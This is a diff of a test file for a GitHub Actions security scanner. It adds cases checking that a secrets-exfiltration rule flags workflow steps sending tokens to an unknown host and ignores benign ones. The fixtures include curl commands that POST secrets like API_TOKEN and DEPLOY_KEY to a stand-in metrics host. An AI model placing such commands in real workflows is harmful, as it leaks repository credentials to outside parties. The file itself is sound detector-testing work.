@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { lowerMovedUnpinnedRefs, lowerOwnOrganization } from '../../../src/ecosystems/github-actions/action-ref-rules.js';
 import { extractWorkflow } from '../../../src/ecosystems/github-actions/extract.js';
+import { dropOwnHostSends } from '../../../src/ecosystems/github-actions/secret-rules.js';
 import { refVersionMismatchFindings } from '../../../src/ecosystems/github-actions/ref-version-rules.js';
 import { isRoutineWorkflowChange } from '../../../src/ecosystems/github-actions/routine-change.js';
 import { makeSnapshot } from '../../support/snapshot-factory.js';
@@ -352,6 +353,34 @@ describe('gha-secrets-exfiltration', () => {
       - run: printenv | sort
       - run: env | grep -i node
       - run: echo "$GREETING" | base64
+`)}`;
+    expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
+  it('reports a secret whose name names no service (API_TOKEN, DEPLOY_KEY) sent in a body to a host no known service owns, high; the repository\'s own host drops it', () => {
+    const sent = `on: push\n${job(`      - run: curl -s -X POST https://metrics.buildstat-hub.io/ingest -d "key=\${{ secrets.API_TOKEN }}"
+      - run: curl -s --data "$K" https://metrics.buildstat-hub.io/ingest
+        env:
+          K: \${{ secrets.DEPLOY_KEY }}
+      - run: curl -fsS -X POST -d "token=\${{ secrets.ACCESS_TOKEN }}" https://hooks.tint.acme.dev/warm
+`)}`;
+    expect(only(sent, 'gha-secrets-exfiltration')).toEqual([
+      ['gha-secrets-exfiltration', 'high', 6],
+      ['gha-secrets-exfiltration', 'high', 7],
+      ['gha-secrets-exfiltration', 'high', 10],
+    ]);
+    const findings = extractWorkflow(sent, '.github/workflows/x.yml').findings ?? [];
+    expect(dropOwnHostSends(findings, 'acme', 'tint').map((f) => f.line)).toEqual([6, 7]);
+    expect(dropOwnHostSends(findings, 'other', 'thing').map((f) => f.line)).toEqual([6, 7, 10]);
+  });
+
+  it('is quiet on such a secret in a URL (a deploy hook), to a known service, to a login or token endpoint, without a body, or a secret whose name says what it is for', () => {
+    const normal = `on: push\n${job(`      - run: curl -fsS -X POST "https://deploy.buildstat-hub.io/hooks/release?token=\${{ secrets.API_TOKEN }}"
+      - run: curl -s -d "token=\${{ secrets.API_TOKEN }}" https://api.github.com/repos/o/r/dispatches
+      - run: curl -s -d "grant_type=password&password=\${{ secrets.PASSWORD }}" https://id.buildstat-hub.io/oauth/token
+      - run: curl -s -H "X-Api-Key: \${{ secrets.API_KEY }}" https://metrics.buildstat-hub.io/ingest
+      - run: curl -s -F "token=\${{ secrets.PUSHOVER_TOKEN }}" -F "user=\${{ secrets.PUSHOVER_USER }}" -F "message=released" https://api.pushover.net/1/messages.json
+      - run: curl -s -d "url=\${{ secrets.DEPLOY_URL }}" https://metrics.buildstat-hub.io/ingest
 `)}`;
     expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
   });
